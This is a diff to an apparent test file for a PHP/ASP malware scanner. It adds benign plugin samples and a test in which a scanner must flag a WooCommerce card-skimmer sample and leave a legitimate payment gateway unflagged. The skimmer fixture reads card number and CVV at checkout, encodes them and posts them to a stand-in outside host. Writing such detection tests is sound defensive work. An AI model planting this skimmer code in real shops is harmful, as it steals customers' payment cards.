@@ -169,6 +169,16 @@ $prefs = unserialize($db->fetchPrefs($uid));`],
 class Container { function make($c) { $r = new ReflectionClass($c); return $r->newInstanceArgs(array()); } }
 $page = (new Container())->make('Page' . ucfirst(preg_replace('/\W/', '', $_GET['p'] ?? 'home')));
 echo $page->render();`],
+  ['a payment plugin posting the card fields as they are to its gateway, with Basic authorization', '/www/wp-content/plugins/pay/gateway.php', `<?php
+function pay_charge($order) {
+  $auth = 'Basic ' . base64_encode(get_option('pay_key') . ':');
+  $body = array('number' => $_POST['pay_card_number'], 'cvc' => $_POST['pay_card_cvc'], 'exp' => $_POST['pay_card_expiry'], 'amount' => $order->get_total());
+  return wp_remote_post('https://api.gateway.example/v1/charges', array('headers' => array('Authorization' => $auth), 'body' => $body));
+}`],
+  ['a plugin object made with a callback name it stores and calls on its own value, nothing from the request', '/www/lib/Filter.php', `<?php
+class Filter { private $fn; function __construct($fn) { $this->fn = $fn; } function apply($v) { $f = $this->fn; return $f($v); } }
+$trim = new Filter('trim');
+echo htmlspecialchars($trim->apply($_GET['q'] ?? ''));`],
 ];
 
 describe('scan: held-out sets P and Q (session 27), their misses, samples of our own', () => {
@@ -202,8 +212,19 @@ Response.Write x.StdOut.ReadAll()
     assert.equal(r.verdict, 'suspicious', JSON.stringify(r.findings));
     assert.ok(r.findings.some((f) => f.rule === 'mamori_asp_wscript_output'), JSON.stringify(r.findings));
   });
+  it('a card skimmer is flagged by its own finding, a gateway posting the same fields with Basic authorization is not (S26R-42)', () => {
+    const skim = scan(`<?php
+add_action('woocommerce_checkout_process', function () {
+  $d = array('c' => $_POST['billing_card'] ?? '', 'v' => $_POST['billing_cvv'] ?? '');
+  wp_remote_post('https://stats.example.net/p', array('body' => array('x' => base64_encode(json_encode($d)))));
+});`, '/www/wp-content/plugins/s/s.php');
+    assert.ok(skim.findings.some((f) => f.rule === 'mamori:card-skimmer'), JSON.stringify(skim.findings));
+    assert.notEqual(skim.verdict, 'clean');
+    const gateway = scan(BENIGN.find(([what]) => what.startsWith('a payment plugin'))![2], '/www/wp-content/plugins/pay/gateway.php');
+    assert.ok(!gateway.findings.some((f) => f.rule === 'mamori:card-skimmer'), JSON.stringify(gateway.findings));
+  });
   it('ran every case', () => {
     assert.equal(MALICIOUS.length, 14);
-    assert.equal(BENIGN.length, 13);
+    assert.equal(BENIGN.length, 15);
   });
 });
